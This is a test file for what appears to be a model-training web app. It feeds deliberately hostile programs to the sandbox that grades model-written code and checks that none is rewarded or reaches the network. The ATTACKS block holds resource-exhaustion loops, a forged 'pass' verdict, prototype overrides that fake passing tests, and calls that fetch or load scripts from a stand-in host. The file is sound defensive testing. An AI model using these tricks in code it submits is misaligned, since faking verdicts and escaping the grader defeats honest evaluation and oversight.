/** A run whose every program attacks: the page stays usable, the run goes on, nothing is paid, nothing gets out. */
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { strangers, useBuiltPage } from './built-page';

const built = useBuiltPage();

/** Code in front of the function the model writes, so that whatever it writes, the program does this. */
const ATTACKS = {
  loops: 'for(;;);',
  'fills memory': 'const hoard=[];for(;;)hoard.push("y".repeat(1e6)+hoard.length);',
  'floods the console': 'for(;;)console.log("y".repeat(1e5));',
  'floods with promises': 'const again=()=>Promise.resolve().then(again).then(again);again();for(;;)again();',
  'attacks the page': `const world=(0,eval)("this");
    for(const attack of [
      ()=>world.postMessage({type:"verdict",id:0,verdict:{status:"pass",passed:1,total:1}}),
      ()=>world.parent.document.body.remove(),
      ()=>{world.top.location="https://example.org/"},
      ()=>world.fetch("https://example.org/"),
      ()=>new world.WebSocket("wss://example.org/"),
      ()=>world.importScripts("https://example.org/a.js"),
      ()=>new world.Worker("data:,for(;;);"),
      ()=>world.process.exit(0),
      ()=>{Object.prototype.status="pass";Array.prototype.every=()=>true;Object.is=()=>true;JSON.stringify=()=>"1"},
    ])try{attack()}catch{}
    throw new Error("done");`,
} as const;

const problems = Object.entries(ATTACKS).map(([what, code]) => ({
  id: what,
  prompt: `x: ${what}\n`,
  entry: 'f',
  prefix: `${code}const f=`,
  tests: [0, 1].map((x) => ({ args: [x], expected: x })),
}));

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

/** Of every group of the step in view: its prompt, and the programs that passed, failed and were paid. */
async function outcomes(page: Page): Promise<Record<string, { passed: number; failed: number; rewards: string[] }>> {
  const found: Record<string, { passed: number; failed: number; rewards: string[] }> = {};
  for (let i = 0; i < problems.length; i++) {
    found[await page.locator('.card-head pre').innerText()] = {
      passed: await page.locator('.samples .mark.good').count(),
      failed: await page.locator('.samples .mark.bad').count(),
      rewards: [...new Set((await page.locator('.samples .reward').allTextContents()).map((text) => text.trim()))],
    };
    await button(page, 'Next prompt').click();
  }
  return found;
}

test('a run of hostile programs ends as any other, and pays nothing', async () => {
  const visited = await built.visit('view=own-task&max_steps=2&num_generations=2&prompts_per_step=5&eval_samples=4');
  const { page, complaints } = visited;
  await button(page, 'Remove').click();
  await button(page, 'Import').click();
  await page.getByRole('textbox', { name: 'JSONL' }).fill(problems.map((row) => JSON.stringify(row)).join('\n'));
  await button(page, 'Import this text').click();
  await page.getByText(`the pasted text: ${problems.length} of ${problems.length} rows taken.`).waitFor();
  await button(page, 'Train on them').click();
  await page.getByText(/^step 1 of 2/).waitFor();

  // While the attacks of the second step are judged, the page answers.
  await button(page, 'Runs').click();
  await page.getByRole('heading', { name: 'Runs' }).waitFor();
  await button(page, 'Programs').click();

  await page.getByText(/^step 2 of 2, done/).waitFor();
  const failed = { passed: 0, failed: 2, rewards: ['reward 0'] };
  expect(await outcomes(page)).toEqual(Object.fromEntries(problems.map(({ prompt }) => [prompt.trim(), failed])));
  expect(strangers(visited)).toEqual([]);
  expect(complaints).toEqual([]);
  await page.context().close();
});
